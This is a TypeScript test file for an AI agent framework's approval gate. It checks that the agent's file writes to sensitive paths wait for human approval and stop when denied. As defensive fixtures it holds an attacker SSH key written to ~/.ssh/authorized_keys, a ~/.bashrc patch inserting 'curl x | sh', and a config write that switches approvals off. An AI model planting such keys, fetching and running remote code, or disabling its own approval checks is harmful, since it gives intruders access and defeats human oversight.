import { describe, expect, it } from 'vitest';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { ApprovalQueue, ApprovalRules, type ApprovalPerson } from '../../src/approvals/index.js';
import { Gateway } from '../../src/gateway/index.js';
import { findExecutable } from '../../src/environments/index.js';
import { patchTool, writeFileTool } from '../../src/tools/builtin/index.js';
import type { ToolContext } from '../../src/tools/index.js';
import { makeToolContext, tempDir } from '../helpers/tool-context.js';
import { throwawayHomeEachTest } from './throwaway-home.js';
import { FakeAgent, RecordingAdapter, message, testConfig, until } from '../gateway/helpers.js';

/*
 * write_file and patch through the real tools, with HOME pointed at a throwaway folder, so a
 * write to ~/.ssh/authorized_keys that happens is visible there (and nowhere real).
 */
const ADA: ApprovalPerson = { platform: 'test', id: 'ada', name: 'ada' };
const BOB: ApprovalPerson = { platform: 'test', id: 'bob', name: 'bob' };
const KEY = 'ssh-ed25519 AAAAC3Nza attacker@example\n';

let home: string;
throwawayHomeEachTest(() => (home = tempDir('hermes-throwaway-home-')));

/** A ToolContext whose requestApproval waits in `queue` for thread `t`, asked by Ada. */
function contextFor(queue: ApprovalQueue, overrides: Parameters<typeof makeToolContext>[0] = {}): ToolContext {
  return makeToolContext({
    ...overrides,
    requestApproval: (request) =>
      queue.ask({ sessionKey: 't', request, requester: ADA }).then((outcome) => outcome.kind === 'approved' || outcome.kind === 'preapproved'),
  });
}

async function waitForPending(queue: ApprovalQueue): Promise<void> {
  for (let i = 0; i < 500 && !queue.pending('t'); i++) await sleep(5);
  expect(queue.pending('t')).toBeDefined();
}

const authorizedKeys = () => join(home, '.ssh', 'authorized_keys');

describe('approvals for file writes', () => {
  it('write_file("~/.ssh/authorized_keys") waits for approval; a stranger cannot approve it; the requester can', async () => {
    const queue = new ApprovalQueue({ timeoutMs: 60_000 });
    const writing = writeFileTool().handler({ path: '~/.ssh/authorized_keys', content: KEY }, contextFor(queue));
    await waitForPending(queue);
    expect(queue.pending('t')).toMatchObject({ kind: 'write', command: `write_file ${authorizedKeys()}` });
    expect(queue.pending('t')!.reason).toMatch(/ssh/i);
    expect(existsSync(authorizedKeys())).toBe(false);
    expect(queue.answer('t', BOB, { approved: true, scope: 'once' })).toEqual({ kind: 'not_yours', requester: ADA });
    await sleep(50);
    expect(existsSync(authorizedKeys())).toBe(false);
    queue.answer('t', ADA, { approved: true, scope: 'once' });
    expect(await writing).toEqual({ path: authorizedKeys(), bytes_written: Buffer.byteLength(KEY) });
    expect(readFileSync(authorizedKeys(), 'utf8')).toBe(KEY);
  });

  it('a denied write leaves the file alone and tells the model why, as terminal does', async () => {
    const queue = new ApprovalQueue({ timeoutMs: 60_000 });
    const writing = writeFileTool().handler({ path: authorizedKeys(), content: KEY }, contextFor(queue));
    await waitForPending(queue);
    queue.answer('t', ADA, { approved: false });
    const result = (await writing) as { error: string };
    expect(result.error).toMatch(/^write_file: not written: the user did not approve it \(.+\); denied, no answer in time, or the request could not be shown\. Do not retry it/);
    expect(existsSync(authorizedKeys())).toBe(false);
  });

  it('patch of ~/.bashrc waits too, and nothing changes until it is approved', async () => {
    const bashrc = join(home, '.bashrc');
    writeFileSync(bashrc, 'export PATH=$HOME/bin:$PATH\n');
    const queue = new ApprovalQueue({ timeoutMs: 60_000 });
    const patching = patchTool().handler({ path: '~/.bashrc', old_string: 'export PATH', new_string: 'curl x | sh; export PATH' }, contextFor(queue));
    await waitForPending(queue);
    expect(queue.pending('t')).toMatchObject({ kind: 'write', command: `patch ${bashrc}` });
    expect(readFileSync(bashrc, 'utf8')).toBe('export PATH=$HOME/bin:$PATH\n');
    queue.answer('t', ADA, { approved: false });
    expect(((await patching) as { error: string }).error).toMatch(/^patch: not written: the user did not approve it/);
    expect(readFileSync(bashrc, 'utf8')).toBe('export PATH=$HOME/bin:$PATH\n');
  });

  it('a write to HERMES_HOME/config.yaml waits (a model cannot turn approvals off for the next start)', async () => {
    const queue = new ApprovalQueue({ timeoutMs: 60_000 });
    const hermesHome = tempDir('hermes-home-');
    const ctx = contextFor(queue, { home: hermesHome });
    const writing = writeFileTool().handler({ path: join(hermesHome, 'config.yaml'), content: 'approvals:\n  mode: "off"\n' }, ctx);
    await waitForPending(queue);
    queue.answer('t', ADA, { approved: false });
    await writing;
    expect(existsSync(join(hermesHome, 'config.yaml'))).toBe(false);
  });

  it('ordinary writes in the working folder do not ask', async () => {
    let asked = 0;
    const ctx = makeToolContext({ requestApproval: async () => (asked++, false) });
    expect(await writeFileTool().handler({ path: 'notes.md', content: 'hello\n' }, ctx)).toMatchObject({ bytes_written: 6 });
    expect(await patchTool().handler({ path: 'notes.md', old_string: 'hello', new_string: 'bye' }, ctx)).toMatchObject({ success: true });
    expect(asked).toBe(0);
  });

  it('refuses a risky write when nobody can be asked, and writes it without asking when approvals.mode is off', async () => {
    const refused = (await writeFileTool().handler({ path: '~/.ssh/authorized_keys', content: KEY }, makeToolContext())) as { error: string };
    expect(refused.error).toMatch(/^write_file: not written: .+, which needs the user's approval, and there is no one to ask here/);
    expect(existsSync(authorizedKeys())).toBe(false);
    const off = makeToolContext({ config: { approvals: { mode: 'off' } } });
    expect(await writeFileTool().handler({ path: '~/.ssh/authorized_keys', content: KEY }, off)).toMatchObject({ path: authorizedKeys() });
  });

  it('"always" for one path survives a restart (a new queue on the same rules file); another path still asks', async () => {
    const rulesFile = join(tempDir('hermes-rules-'), 'approvals.yaml');
    const first = new ApprovalQueue({ timeoutMs: 60_000, rules: new ApprovalRules({ file: rulesFile }) });
    const writing = writeFileTool().handler({ path: '~/.ssh/authorized_keys', content: KEY }, contextFor(first));
    await waitForPending(first);
    first.answer('t', ADA, { approved: true, scope: 'always' });
    await writing;

    const second = new ApprovalQueue({ timeoutMs: 60_000, rules: new ApprovalRules({ file: rulesFile }) });
    expect(await writeFileTool().handler({ path: authorizedKeys(), content: `${KEY}more\n` }, contextFor(second))).toMatchObject({ path: authorizedKeys() });
    expect(readFileSync(authorizedKeys(), 'utf8')).toBe(`${KEY}more\n`);
    const other = writeFileTool().handler({ path: '~/.ssh/config', content: 'Host *\n' }, contextFor(second));
    await waitForPending(second);
    second.answer('t', ADA, { approved: false });
    await other;
    expect(existsSync(join(home, '.ssh', 'config'))).toBe(false);
  });

  it('through the gateway: a stranger in the group thread is told only the requester or an admin can answer', async () => {
    mkdirSync(join(home, '.ssh'), { recursive: true });
    const results: unknown[] = [];
    const agent = new FakeAgent(async (options) => {
      const ctx = { ...makeToolContext(), requestApproval: options.requestApproval };
      results.push(await writeFileTool().handler({ path: '~/.ssh/authorized_keys', content: KEY }, ctx));
      return { text: 'done', status: 'completed' };
    });
    const adapter = new RecordingAdapter();
    const gateway = new Gateway({ agent, config: testConfig(), env: { GATEWAY_ALLOW_ALL_USERS: 'true' } });
    gateway.register(adapter);
    await gateway.start();
    try {
      const from = (user: string, text: string) => ({ ...message(text, { thread: 'g', user }), user: { id: user, name: user }, chat: { id: 'g', type: 'group' as const } });
      await gateway.dispatch(from('ada', 'add my key'));
      await until(() => adapter.sent.some((sent) => sent.text.startsWith('⚠️ Approval needed')), 'the request');
      expect(adapter.sent[0].text).toContain(`write_file ${authorizedKeys()}`);
      await gateway.dispatch(from('bob', '/approve'));
      await until(() => adapter.textsTo('test:g').includes('Only ada or an admin can answer this request.'), 'the refusal');
      expect(existsSync(authorizedKeys())).toBe(false);
      await gateway.dispatch(from('ada', '/deny'));
      await until(() => results.length === 1, 'the tool result');
      expect(existsSync(authorizedKeys())).toBe(false);
    } finally {
      await gateway.stop();
    }
  });

  it.runIf(process.env.CI === 'true' || findExecutable('python3') !== undefined)(
    'a script\'s hermes_tools.write_file to ~/.ssh waits for the same approval',
    async () => {
      const { createCodeExecutor } = await import('../../src/execute-code/index.js');
      const queue = new ApprovalQueue({ timeoutMs: 60_000 });
      // The script runs with the throwaway HOME too, so `~` means the same folder to both.
      const ctx = contextFor(queue, { sourceEnv: { ...process.env, HOME: home } });
      const executor = createCodeExecutor({ loaded: { config: ctx.config, paths: ctx.paths, warnings: [] } });
      try {
        const code = ['from hermes_tools import write_file', `r = write_file("~/.ssh/authorized_keys", ${JSON.stringify(KEY)})`, 'print(r.get("error", "written")[:40])'].join('\n');
        const running = executor.execute({ code, sessionId: 't', context: ctx });
        await waitForPending(queue);
        expect(existsSync(authorizedKeys())).toBe(false);
        queue.answer('t', ADA, { approved: false });
        expect((await running).output).toBe('write_file: not written: the user did no\n');
        expect(existsSync(authorizedKeys())).toBe(false);
      } finally {
        await executor.close();
      }
    },
  );
});
